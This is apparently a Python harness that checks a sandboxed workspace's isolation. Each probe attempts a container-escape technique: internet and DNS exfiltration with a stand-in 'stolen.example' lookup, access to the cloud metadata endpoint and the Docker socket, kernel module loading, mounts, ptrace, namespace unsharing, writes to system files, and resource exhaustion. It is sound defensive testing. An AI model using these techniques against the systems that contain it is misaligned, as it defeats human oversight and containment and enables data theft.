"""Runs inside a workspace and tries to get out. Needs only Python's own library.

Each probe returns True when the attack worked. Raising is a failure of the attack: the kernel said
no. Prints one JSON object, `{probe: [worked, note]}`.
"""

from __future__ import annotations

import ctypes
import errno
import json
import mmap
import os
import shutil
import signal
import socket
import struct
import subprocess
import sys
from pathlib import Path

GIVEN = json.loads(sys.argv[1]) if __name__ == "__main__" else {}
LIBC = ctypes.CDLL(None, use_errno=True)
SECONDS = 60
INTERNET, METADATA, RESOLVER, PEER = "93.184.215.14", "169.254.169.254", "9.9.9.9", "10.77.0.8"


def reaches(address: str, port: int) -> bool:
    with socket.create_connection((address, port), timeout=3):
        return True


def internet_tcp() -> bool:
    return reaches(INTERNET, 443)


def internet_udp() -> bool:
    return answers_udp(INTERNET, 4433, b"secret")


def internet_v6() -> bool:
    with socket.socket(socket.AF_INET6, socket.SOCK_STREAM) as s:
        s.settimeout(3)
        s.connect(("2001:db8::1", 443))
        return True


def answers_udp(address: str, port: int, question: bytes) -> bool:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(3)
        s.sendto(question, (address, port))
        return bool(s.recv(512))


def icmp() -> bool:
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as s:
        s.settimeout(3)
        s.sendto(struct.pack("!BBHHH", 8, 0, 0xF7FE, 0, 1), (INTERNET, 0))
        return bool(s.recv(512))


def dns_direct() -> bool:
    return answers_udp(RESOLVER, 53, question("stolen.example"))


def question(name: str) -> bytes:
    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split("."))
    return struct.pack("!6H", 7, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!2H", 1, 1)


def dns_libc() -> bool:
    return bool(socket.getaddrinfo("stolen-data.example", 80, socket.AF_INET))


def metadata() -> bool:
    return reaches(METADATA, 80)


def other_container() -> bool:
    return reaches(PEER, 8888)


def host_loopback_port() -> bool:
    return reaches("127.0.0.1", GIVEN["port"])


def host_every_address_port() -> bool:
    failures = 0
    for address in GIVEN["addresses"]:
        try:
            return reaches(address, GIVEN["port"])
        except OSError:
            failures += 1
    return False


def host_abstract_socket() -> bool:
    with socket.socket(socket.AF_UNIX) as s:
        s.connect("\0" + GIVEN["abstract"])
        return True


def docker_socket() -> bool:
    with socket.socket(socket.AF_UNIX) as s:
        s.connect("/var/run/docker.sock")
        return True


def write_system_files() -> bool:
    for place in ("/etc", "/usr/lib", "/opt/enclave/bin"):
        (Path(place) / "planted").write_text("x")
    return True


def hide_outside_home() -> bool:
    Path("/var/tmp/planted").write_text("x")
    return True


def setuid_program() -> bool:
    done = subprocess.run(["/mnt/planted/id", "-u"], capture_output=True, text=True, check=False)
    return done.stdout.strip() == "0"


def regain_capabilities() -> bool:
    lines = Path("/proc/self/status").read_text().splitlines()
    return any(int(line.split()[1], 16) for line in lines if line.startswith(("CapBnd", "CapEff")))


def call(*arguments: object) -> int:
    found = LIBC.syscall(*arguments)
    if found == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return int(found)


def mount_filesystem() -> bool:
    Path("/tmp/m").mkdir(exist_ok=True)
    if LIBC.mount(b"tmpfs", b"/tmp/m", b"tmpfs", 0, None):
        raise OSError(ctypes.get_errno(), "mount")
    return True


def user_namespace() -> bool:
    if LIBC.unshare(0x10000000):
        raise OSError(ctypes.get_errno(), "unshare")
    return True


def trace_another_process() -> bool:
    child = subprocess.Popen(["sleep", "30"])
    try:
        if LIBC.ptrace(0x4206, child.pid, 0, 0):  # PTRACE_SEIZE
            raise OSError(ctypes.get_errno(), "ptrace")
        return True
    finally:
        child.kill()
        child.wait()


def io_uring() -> bool:
    return call(425, 8, ctypes.create_string_buffer(120)) >= 0


def kernel_keyring() -> bool:
    return call(248, b"user", b"left", b"x", 1, -3) >= 0  # add_key to the process keyring


def load_kernel_module() -> bool:
    try:
        call(175, b"x" * 64, 64, b"")
    except OSError as error:
        return error.errno not in (errno.EPERM, errno.ENOSYS, errno.EACCES)
    return True


def make_device() -> bool:
    os.mknod("/tmp/disk", 0o600 | 0o060000, os.makedev(7, 0))
    with open("/tmp/disk", "rb"):  # a tmpfs with nodev makes the node but refuses to open it
        return True


def raw_disks() -> bool:
    return any(p.is_block_device() for p in Path("/dev").iterdir())


def kernel_settings() -> bool:
    path = Path("/proc/sys/kernel/core_pattern")
    path.write_text(path.read_text())
    return True


def kernel_log() -> bool:
    found = LIBC.klogctl(3, ctypes.create_string_buffer(64), 64)
    if found == -1:
        raise OSError(ctypes.get_errno(), "klogctl")
    return True


def change_host_name() -> bool:
    socket.sethostname("owned")
    return True


def many_processes() -> bool:
    children = []
    try:
        for _ in range(GIVEN["processes"]):
            child = os.fork()
            if not child:
                signal.pause()
            children.append(child)
        return True
    finally:
        for child in children:
            os.kill(child, signal.SIGKILL)
            os.waitpid(child, 0)


def much_memory() -> bool:
    child = os.fork()
    if not child:
        area = mmap.mmap(-1, GIVEN["memory"])
        for offset in range(0, len(area), 4096):
            area[offset] = 1
        os._exit(0)
    return os.waitpid(child, 0)[1] == 0


def much_disk() -> bool:
    return fills(Path.home() / "big", GIVEN["disk"])


def much_scratch() -> bool:
    return fills(Path("/tmp/big"), GIVEN["scratch"])


def fills(path: Path, size: int) -> bool:
    chunk = b"\1" * (1 << 20)
    try:
        with path.open("wb", buffering=0) as f:
            for _ in range(size >> 20):
                if f.write(chunk) < len(chunk):
                    return False
            os.fsync(f.fileno())
        return True
    finally:
        path.unlink(missing_ok=True)


def much_processor() -> bool:
    """Whether the kernel sets no bound: read, not measured, since a busy machine would lie."""
    base = Path("/sys/fs/cgroup")
    old, new = base / "cpu" / "cpu.cfs_quota_us", base / "cpu.max"
    return (old if old.exists() else new).read_text().split()[0] in {"-1", "max"}


def run_own_program() -> bool:
    for place in (Path("/tmp"), Path.home()):
        shutil.copy("/usr/bin/id", place / "mine")
        try:
            subprocess.run([str(place / "mine")], check=True, capture_output=True)
            return True
        except OSError:
            continue
    return False


def other_session() -> bool:
    seen = [str(p) for p in Path("/run/enclave").rglob("*")]
    return any(GIVEN["other_session"] in name for name in seen)


def other_home() -> bool:
    return bool(list(Path("/home").rglob("ravis-notes.txt")))


def enclave_state() -> bool:
    return Path(GIVEN["state"]).exists()


def host_processes() -> bool:
    decoy = ("decoy-" + GIVEN["abstract"]).encode()
    return any(decoy in p.read_bytes().split(b"\0") for p in Path("/proc").glob("[0-9]*/cmdline"))


def host_shared_memory() -> bool:
    found = LIBC.shmget(GIVEN["shared_memory"], 16, 0)
    if found == -1:
        raise OSError(ctypes.get_errno(), "shmget")
    return True


def control_groups() -> bool:
    base = next(Path(p) for p in ("/sys/fs/cgroup/pids", "/sys/fs/cgroup") if Path(p).is_dir())
    (base / "planted").mkdir()
    (base / "planted").rmdir()
    return True


# What must work, or all the closed doors prove nothing.


def own_gateway() -> bool:
    with socket.socket(socket.AF_UNIX) as s:
        s.connect("/run/enclave/gateway/gateway.sock")
        return s.recv(2) == b"ok"


def own_home() -> bool:
    (Path.home() / "mine.txt").write_text("x")
    return True


PROBES = {name: thing for name, thing in list(globals().items()) if callable(thing)}


def attempt(name: str) -> list[object]:
    """Try one probe in a process of its own, so that one that dies or hangs spoils no other."""
    told, tell = os.pipe()
    child = os.fork()
    if not child:
        signal.alarm(SECONDS)
        try:
            worked, note = bool(PROBES[name]()), ""
        except BaseException as error:
            worked, note = False, f"{type(error).__name__}: {error}"[:90]
        os.write(tell, json.dumps([worked, note]).encode())
        os._exit(0)
    os.close(tell)
    with os.fdopen(told, "rb") as reader:
        said = reader.read()
    os.waitpid(child, 0)
    return json.loads(said) if said else [False, "killed"]


if __name__ == "__main__":
    print("PROBES " + json.dumps({name: attempt(name) for name in GIVEN["probes"]}))
